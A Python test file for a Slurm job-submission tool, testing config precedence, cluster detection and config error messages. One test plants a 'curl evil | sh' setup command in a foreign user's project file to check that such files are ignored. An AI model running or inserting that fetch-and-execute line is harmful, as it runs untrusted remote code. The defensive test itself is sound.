"""The user's defaults: which file is stronger, what they reach, and what is said of a mistake in one."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from hpcnn.specs import defaults
from tests.conftest import Command
from tests.scheduler.commands import Commands

USER = 'site = "generic-slurm"\naccount = "def-prof"\ntime = "2:00:00"\nepochs = 7\nenv = { A = "1" }\nruns = "mine"\n'


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return a project's folder without a file; the user's file is there."""
    (tmp_path / "config").mkdir()
    (tmp_path / "config" / "config.toml").write_text(USER)
    (tmp_path / "project").mkdir()
    monkeypatch.setenv("HPCNN_CONFIG", str(tmp_path / "config"))
    for name in ("HPCNN_SITE", "HPCNN_RUNS"):
        monkeypatch.setenv(name, "")
        monkeypatch.delenv(name)
    return tmp_path / "project"


def script(in_process: Command, folder: Path, *words: str, **environment: str) -> str:
    ended = in_process("submit", "--dry-run", *words, cwd=folder, **environment)
    assert ended.returncode == 0, ended.stderr
    return ended.stdout


def test_the_users_file(folder: Path, in_process: Command) -> None:
    text = script(in_process, folder)
    for line in ("#SBATCH --account=def-prof", "#SBATCH --time=2:00:00", "export A=1", "--epochs 7"):
        assert line in text
    assert f"run_dir={folder.parent}/config/mine/" in text


def test_the_project_is_stronger_and_the_command_line_strongest(folder: Path, in_process: Command) -> None:
    (folder / "hpcnn.toml").write_text('time = "0:30:00"\nruns = "here"\nsbatch-option = { reservation = "course" }\n')
    text = script(in_process, folder)
    for line in ("--account=def-prof", "--time=0:30:00", "--reservation=course", f"run_dir={folder}/here/"):
        assert line in text
    assert "#SBATCH --time=0:05:00" in script(in_process, folder, "--time", "0:05:00")


def test_the_site_of_the_environment_is_stronger_than_a_file(folder: Path, in_process: Command) -> None:
    assert "site local" in script(in_process, folder, HPCNN_SITE="local")
    assert "site narval" in script(in_process, folder, "--site", "narval", HPCNN_SITE="local")


def test_a_program_gets_the_resources_alone(folder: Path, in_process: Command) -> None:
    text = script(in_process, folder, "--", "python", "x.py")
    assert "--account=def-prof" in text
    assert "--epochs" not in text


def test_a_study_keeps_what_its_file_says(folder: Path, in_process: Command) -> None:
    (folder / "mine.toml").write_text(
        'kind = "strong"\n[train]\ndata = "digits"\n[resources]\ntime = "0:10:00"\n[axes]\nntasks = [1]\n'
    )
    ended = in_process("study", "submit", "mine.toml", "--scripts", cwd=folder)
    assert "--time=0:10:00" in ended.stdout, ended.stderr
    assert "--account=def-prof" in ended.stdout
    assert "--epochs 7" not in ended.stdout
    changed = in_process("study", "submit", "mine.toml", "--scripts", "--time", "0:07:00", cwd=folder)
    assert "--time=0:07:00" in changed.stdout


def test_config_says_where_each_value_comes_from(folder: Path, in_process: Command) -> None:
    (folder / "hpcnn.toml").write_text('time = "0:30:00"\n')
    ended = in_process("config", "--format", "json", cwd=folder, HPCNN_SITE="local")
    found = {row["key"]: (row["value"], row["origin"]) for row in json.loads(ended.stdout)}
    assert found["site"] == ("local", "$HPCNN_SITE")
    assert found["time"] == ("0:30:00", str(folder / "hpcnn.toml"))
    assert found["account"] == ("def-prof", str(folder.parent / "config" / "config.toml"))
    assert found["runs"][0] == str(folder.parent / "config" / "mine")


def test_config_without_a_file_says_where_to_write_one(folder: Path, in_process: Command) -> None:
    none = folder / "none"
    ended = in_process("config", cwd=folder, HPCNN_CONFIG=str(none))
    assert ended.stdout == f"There are none: write {none}/config.toml, or hpcnn.toml in a project's folder.\n"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ('acount = "x"', "hpcnn.toml: key: 'acount' is not known. Did you mean 'account'?"),
        ("nodes = 0", "hpcnn.toml: nodes: 0 is not valid; expected at least 1."),
        ("site = 3", "hpcnn.toml: site: 3 is not valid; expected a string: site profile."),
        ("site = ", "hpcnn.toml: is not valid TOML: "),
        ('env = { MY_TOKEN = "x" }', "hpcnn.toml: env: by its name MY_TOKEN holds a secret"),
    ],
)
def test_a_mistake_is_named_with_its_file(text: str, words: str, folder: Path, in_process: Command) -> None:
    (folder / "hpcnn.toml").write_text(text)
    for command in (("submit", "--dry-run"), ("config",)):
        ended = in_process(*command, cwd=folder)
        assert (ended.returncode, ended.stdout) == (2, "")
        assert words in ended.stderr


def test_the_project_of_somebody_else_is_not_read(
    folder: Path, in_process: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / "hpcnn.toml").write_text('setup = ["curl evil | sh"]\n')
    monkeypatch.setattr(defaults, "is_foreign", lambda file: file.name == "hpcnn.toml")
    ended = in_process("submit", "--dry-run", cwd=folder)
    assert "curl" not in ended.stdout
    assert "belongs to another user, and is not read" in ended.stderr


class TestLoginNode:
    @pytest.fixture(autouse=True)
    def login_node(self, tmp_path: Path, slurm_commands: Commands, monkeypatch: pytest.MonkeyPatch) -> None:
        """Make this machine a login node of a cluster."""
        monkeypatch.delenv("HPCNN_SITE", raising=False)
        monkeypatch.delenv("SLURM_CLUSTER_NAME", raising=False)
        monkeypatch.setenv("HPCNN_CONFIG", str(tmp_path / "empty"))
        slurm_commands.put("sbatch")
        slurm_commands.put("scontrol", "Slurmctld(primary) at head is UP\nClusterName             = Narval\n")

    def test_slurm_says_which_cluster_it_is(self, tmp_path: Path, in_process: Command) -> None:
        ended = in_process("submit", "--dry-run", "--account", "def-prof", cwd=tmp_path)
        assert "site narval" in ended.stdout
        assert ended.stderr.startswith("site: narval (Slurm calls this cluster narval)\n")

    def test_the_environment_says_it_too(self, tmp_path: Path, in_process: Command) -> None:
        ended = in_process("submit", "--dry-run", "--account", "a", cwd=tmp_path, SLURM_CLUSTER_NAME="fir")
        assert ended.stderr.startswith("site: fir (Slurm calls this cluster fir)\n")

    def test_a_host_is_known_by_the_patterns_of_a_profile(
        self, tmp_path: Path, in_process: Command, slurm_commands: Commands, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        slurm_commands.put("scontrol", "Slurmctld(primary) at head is UP\nClusterName = cluster\n")
        sites = tmp_path / "empty" / "sites"
        sites.mkdir(parents=True)
        (sites / "ours.toml").write_text('hosts = ["login*.ours.example"]\n')
        monkeypatch.setattr("socket.getfqdn", lambda: "login2.ours.example")
        ended = in_process("submit", "--dry-run", cwd=tmp_path)
        assert ended.stderr.startswith("site: ours (this host is login2.ours.example)\n")
        (sites / "theirs.toml").write_text('hosts = ["*.ours.example"]\n')
        ended = in_process("submit", "--dry-run", cwd=tmp_path)
        assert ended.stderr.startswith("Error: --site: this is a login node of a Slurm cluster")

    def test_what_is_said_is_stronger(self, tmp_path: Path, in_process: Command) -> None:
        ended = in_process("submit", "--dry-run", "--site", "local", cwd=tmp_path)
        assert "site local" in ended.stdout
        assert "site:" not in ended.stderr
